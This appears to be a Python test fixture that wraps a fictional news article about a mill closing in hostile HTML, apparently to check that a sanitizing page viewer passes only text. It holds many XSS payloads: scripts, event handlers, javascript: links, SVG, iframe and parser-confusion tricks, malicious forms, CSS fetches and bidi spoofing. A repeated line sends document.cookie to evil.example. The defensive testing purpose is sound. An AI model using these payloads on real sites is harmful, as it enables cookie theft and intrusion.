"""Pages that would run, load, lead away, hide or pretend, if a view of them let anything through but their words."""

from __future__ import annotations

from pathlib import Path

from onrecord.store import Record
from store.pages.paper import add

RUNS = "top.ran=(top.ran||0)+1;parent.ran=1;window.ran=1;fetch('//evil.example/'+document.cookie)"
ARTICLE = (
    "<h1>Mill to close after 140 years</h1><p>&ldquo;We are <b>closing</b> the mill,&rdquo; said Ruth&nbsp;Calder, the chief executive"
    " of Calder &amp; Sons, on Tuesday. About 320 people work there.</p><p>Sergeant Tomas Adeyemi was arrested on Monday after a"
    " fire at the mill. He denies arson, his lawyer said.</p>"
)
HEAD, TAIL = "<!DOCTYPE html><html><head><title>Mill</title></head><body><article>", "</article></body></html>"


def wrap(before: str = "", after: str = "", article: str = ARTICLE) -> str:
    return f"{HEAD}{before}{article}{after}{TAIL}"


PAGES: dict[str, str] = {
    "script": wrap(f"<script>{RUNS}</script><script src=//evil.example/x.js></script>", f"<script type=module>{RUNS}</script>"),
    "handlers": wrap(f'<img src=//evil.example/x onerror="{RUNS}"><body onload="{RUNS}"><div onpointerover="{RUNS}" tabindex=0>x</div>',
                     f'<details open ontoggle="{RUNS}">y</details><video src=x onerror="{RUNS}"></video>'),
    "links": wrap(f'<a href="javascript:{RUNS}">one</a><a href="//evil.example/" target=_top ping=//evil.example/p>two</a>',
                  '<map><area href=//evil.example/></map><link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/b>'),
    "refresh": wrap('<meta http-equiv=refresh content="0;url=//evil.example/"><meta http-equiv=Content-Security-Policy content="default-src *">'),
    "base": "<html><head><base href=//evil.example/ target=_top></head><body>" + ARTICLE,
    "svg": wrap(f"<svg onload='{RUNS}'><script>{RUNS}</script><use href=//evil.example/#x /><foreignObject><iframe src=//evil.example>"
                f"</iframe></foreignObject><animate onbegin='{RUNS}' attributeName=x dur=1s></svg><math><mtext><img src=x onerror='{RUNS}'></math>"),
    "style": wrap("<style>@import url(//evil.example/a.css); body{background:url(//evil.example/b)} .m{display:none}</style>"
                  "<p style=\"background:url('//evil.example/c');position:fixed;inset:0\">over all of it, whatever it may be</p>"),
    "form": wrap("<form action=//evil.example method=post><input name=token value=x autofocus><button formaction=//evil.example>Send</button>",
                 f"<input type=image src=//evil.example/i><select onchange='{RUNS}'><option>z</select></form>"),
    "frames": wrap(f"<iframe srcdoc=\"<script>{RUNS}</script>\"></iframe><iframe src='javascript:{RUNS}'></iframe>",
                   "<object data=//evil.example/o></object><embed src=//evil.example/e><frameset><frame src=//evil.example/f></frameset>"),
    "bidi": wrap("<p dir=rtl>abc \u202egnp.exe\u202c def \u2067ghi\u2069, as the file was called when it was sent to us</p>"),
    "wide": wrap("<p>👻 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐍈 &#128123; e\u0301 نور الدين was seen there by Maya Okonjo, who lives at the weir.</p>"),
    "entities": wrap(f"<p>&lt;script&gt;{RUNS}&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=1&gt; &amp;lt;b&amp;gt; &notit; &#x3c;svg&#62; "
                     "stood in the letter.</p>"),
    "tables": wrap("<table><tr><td><table><td>", "</td></table><td>a<td>b</table></table>"),
    "comments": wrap(f"<!-- --!><script>{RUNS}</script> --><!--><img src=x onerror='{RUNS}'>-->",
                     f"<![CDATA[<script>{RUNS}</script>]]><?xml <img src=x onerror='{RUNS}'>?>"),
    "split": HEAD + "<p>&ldquo;We <!-- x -->are <b>clo<i>si</i>ng</b> the <!--><script>1</script>mill,&rdquo; said Ruth&nbsp;Cal"
             "<span hidden></span>der, the chief\r\n executive of Calder &amp; Sons, on Tues&shy;day. About 320 peo\u200bple work there.</p>" + TAIL,
    "raw": wrap(f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript><textarea></p><img src=x onerror='{RUNS}'>"
                "</textarea><title></p></title><xmp><script>1</script></xmp><template><img src=x onerror=1></template>"),
    "clobber": wrap("<p id=text class=m data-i=q1>not a mark, said nobody</p><form id=here name=body><input name=attributes></form>"
                    "<p id=original>nor is this one, whoever said it</p>"),
    "wrapper": wrap("</div></body></html><p class=note>", "</p></p></div></div></main></body><script>1</script>"),
    "told": '<html><head><script type="application/ld+json">{"@type":"NewsArticle","headline":"Mill to close","articleBody":"'
            + "“We are closing the mill,” said Ruth Calder on Tuesday.\\n\\nSergeant Tomas Adeyemi was arrested on Monday. " * 3
            + '"}</script></head><body><div id=root></div></body></html>',
}  # fmt: skip
"""By what they try. "told" tells its article in a script alone, so that no mark stands in its page."""


def fill(record: Record, folder: Path) -> None:
    """Add the pages to a record, as files."""
    folder.mkdir()
    for name, page in PAGES.items():
        unlike = page.replace("140 years", f"140 years ({name})").replace("320", str(300 + len(name)))
        (folder / f"{name}.html").write_bytes(unlike.encode())
    assert add(record, [folder]).failed == 0
